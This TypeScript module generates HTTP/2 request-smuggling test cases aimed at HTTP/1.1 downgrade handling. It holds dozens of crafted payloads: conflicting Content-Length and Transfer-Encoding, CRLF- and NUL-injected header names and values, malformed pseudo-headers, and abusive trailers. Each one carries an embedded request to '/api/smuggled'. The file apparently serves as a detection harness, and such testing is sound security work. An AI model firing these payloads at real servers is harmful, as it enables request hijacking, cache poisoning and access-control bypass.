/** Requests over HTTP/2 that would become something else, or several, if they were written out as HTTP/1.1 as they are. */
import { block, data, flag, frame, headers, type } from "./h2-frames.ts";

export interface Downgrade {
  readonly technique: string;
  /** sent after the settings have been agreed */
  readonly send: readonly Buffer[];
}

type Field = readonly [name: string, value: string];

const host = "shop.example";
const open = flag.endHeaders;
/** Where a back end takes it for a request, that shows in what it has seen. */
export const smuggled = "GET /api/smuggled HTTP/1.1\r\nhost: shop.example\r\n\r\n";

const pseudo = (given: Readonly<Record<string, string>> = {}): readonly Field[] =>
  Object.entries({ ":method": "GET", ":scheme": "https", ":authority": host, ":path": "/api/x", ...given });
const post = pseudo({ ":method": "POST" });

const named = (technique: string, ...send: readonly Buffer[]): Downgrade => ({ technique, send });
const shown = (text: string): string => JSON.stringify(text);
const withBody = (technique: string, fields: readonly Field[], ...pieces: readonly string[]): Downgrade =>
  named(
    technique,
    headers(1, [...post, ...fields], open),
    ...pieces.map((piece, i) => data(1, piece, i === pieces.length - 1 ? flag.endStream : 0)),
  );

const size = String(smuggled.length);
const lengths = [
  "0",
  "5",
  `+${size}`,
  "0x0",
  `${size}, ${size}`,
  `${size},0`,
  ` ${size}`,
  `${size} `,
  "-1",
  "1e1",
  "",
  "99999",
  `0${size}`,
];
const codings = [
  "chunked",
  "Chunked",
  " chunked",
  "chunked, identity",
  "identity",
  "xchunked",
  "\tchunked",
  "chunked\r\nx: y",
  "gzip, chunked",
];
const framingNames = [
  "transfer-encoding ",
  " transfer-encoding",
  "transfer_encoding",
  "Transfer-Encoding",
  "transfer-encoding\0",
  "transfer-encoding:",
  "x\r\ntransfer-encoding",
  "x: y\r\ntransfer-encoding",
  "x\ntransfer-encoding",
  "transfer-encodin\xe7",
];
const lengthNames = framingNames.map((name) =>
  name
    .replace("transfer", "content")
    .replace("Transfer", "Content")
    .replace("encodin", "lengt")
    .replace("Encoding", "Length")
    .replace("lengtg", "length"),
);
const injected = [
  "a\r\ntransfer-encoding: chunked",
  "a\ntransfer-encoding: chunked",
  "a\rtransfer-encoding: chunked",
  "a\r\ncontent-length: 0",
  `a\r\n\r\n${smuggled}`,
  "a\0",
  "a\r\n b",
];
const carriers = [
  "x",
  "cookie",
  "referer",
  "user-agent",
  "range",
  "te",
  "trailer",
  "expect",
  "x-forwarded-for",
  "authorization",
];
const paths = [
  "/api/x\r\nhost: b",
  `/api/x HTTP/1.1\r\nhost: a\r\n\r\n${smuggled.slice(0, -4)}`,
  "/api/x HTTP/1.1",
  "/api/x\t",
  "/api/x\n",
  "/api/x\0",
  "/api/x#f",
  "/api/\\x",
  "/api/x?a b",
  "//api/x",
  "http://b.example/api/x",
  "https://shop.example/api/x",
  "/api/%0d%0ahost:%20b",
  "/api/x/../../api/x",
  "/api/x/%2e%2e/x",
  "/api/x\x7f",
  "/api/\xe4",
  "*",
  "",
];
const methods = [
  "GET ",
  " GET",
  "GET\r\nx: y",
  "GET /api/smuggled HTTP/1.1\r\nx: y\r\n\r\nGET",
  "GET\t/api/smuggled",
  "get",
  "G\0T",
  "",
  "CONNECT",
  "PRI",
  "TRACE",
  "G:T",
];
const authorities = [
  `${host}\r\nx: y`,
  `${host}, b`,
  `b@${host}`,
  `${host}:99999`,
  `${host}:`,
  `${host}/api`,
  ` ${host}`,
  `${host} `,
  `${host}\0`,
  "",
  "b.example",
];
const schemes = ["http", "", "https://b/", "https\r\nx: y", "file", "https "];
const trailing: readonly Field[] = [
  ["content-length", "0"],
  ["transfer-encoding", "chunked"],
  ["host", "b.example"],
  ["connection", "x"],
  ["x\r\ny", "1"],
  ["x", `1\r\n\r\n${smuggled}`],
  [":path", "/api/smuggled"],
  ["X", "1"],
  ["x-forwarded-for", "1.2.3.4"],
];
const hopFields: readonly Field[] = [
  ["connection", "close"],
  ["connection", "content-length"],
  ["connection", "host"],
  ["keep-alive", "timeout=5"],
  ["proxy-connection", "keep-alive"],
  ["upgrade", "h2c"],
  ["upgrade", "websocket"],
  ["http2-settings", "AAMAAABkAAQAAP__"],
  ["te", "chunked"],
];

const framings: readonly Downgrade[] = [
  ...lengths.flatMap((length) => [
    withBody(`content-length ${shown(length)} over a body`, [["content-length", length]], smuggled),
    named(
      `content-length ${shown(length)} without a body`,
      headers(1, [...post, ["content-length", length]]),
    ),
  ]),
  withBody(
    "two lengths",
    [
      ["content-length", size],
      ["content-length", "0"],
    ],
    smuggled,
  ),
  ...codings.map((coding) =>
    withBody(`transfer-encoding ${shown(coding)}`, [["transfer-encoding", coding]], `0\r\n\r\n${smuggled}`),
  ),
  ...framingNames.map((name) =>
    withBody(`the field ${shown(name)}`, [[name, "chunked"]], `0\r\n\r\n${smuggled}`),
  ),
  ...lengthNames.map((name) => withBody(`the field ${shown(name)}`, [[name, "0"]], smuggled)),
  withBody("a body that looks like chunks", [], `0\r\n\r\n${smuggled}`),
  withBody("a body that looks like chunks, in pieces", [], "0\r\n", "\r\n", smuggled),
  withBody("a body between empty pieces", [], "", smuggled, ""),
  withBody("a body that is expected", [["expect", "100-continue"]], smuggled),
  withBody("a body that is never whole", [["content-length", "500"]], smuggled, "", smuggled),
  named("a body of a GET", headers(1, pseudo(), open), data(1, smuggled)),
  named("a body of a HEAD", headers(1, pseudo({ ":method": "HEAD" }), open), data(1, smuggled)),
  named("a body behind the end", headers(1, post), data(1, smuggled)),
  named(
    "a padded body",
    headers(1, post, open),
    frame(
      type.data,
      flag.padded | flag.endStream,
      1,
      Buffer.concat([Buffer.from([smuggled.length]), Buffer.from("x"), Buffer.from(smuggled)]),
    ),
  ),
];

const heads: readonly Downgrade[] = [
  ...carriers.flatMap((name) =>
    injected.map((value) => withBody(`${name}: ${shown(value)}`, [[name, value]], smuggled)),
  ),
  ...paths.map((path) => named(`the path ${shown(path)}`, headers(1, pseudo({ ":path": path })))),
  ...methods.map((method) => named(`the method ${shown(method)}`, headers(1, pseudo({ ":method": method })))),
  ...authorities.map((authority) =>
    named(`the authority ${shown(authority)}`, headers(1, pseudo({ ":authority": authority }))),
  ),
  ...authorities.map((other) =>
    named(`the host ${shown(other)} beside an authority`, headers(1, [...pseudo(), ["host", other]])),
  ),
  ...schemes.map((scheme) => named(`the scheme ${shown(scheme)}`, headers(1, pseudo({ ":scheme": scheme })))),
  ...hopFields.map((field) => withBody(field.join(": "), [field], smuggled)),
  named(
    "an extended CONNECT (RFC 8441)",
    headers(1, [...pseudo({ ":method": "CONNECT" }), [":protocol", "websocket"]], open),
    data(1, smuggled),
  ),
  named(
    "a head in two frames, the break inside a name",
    frame(type.headers, flag.endStream, 1, block(post).subarray(0, 20)),
    frame(type.continuation, open, 1, block(post).subarray(20)),
  ),
];

const trailers: readonly Downgrade[] = trailing.flatMap((field) => [
  named(
    `the trailer ${shown(field.join(": "))}`,
    headers(1, post, open),
    data(1, "hello", 0),
    headers(1, [field]),
  ),
  named(
    `the trailer ${shown(field.join(": "))} that was announced`,
    headers(1, [...post, ["trailer", "x"]], open),
    data(1, smuggled, 0),
    headers(1, [field]),
  ),
]);

export const downgrades: readonly Downgrade[] = [...framings, ...heads, ...trailers];
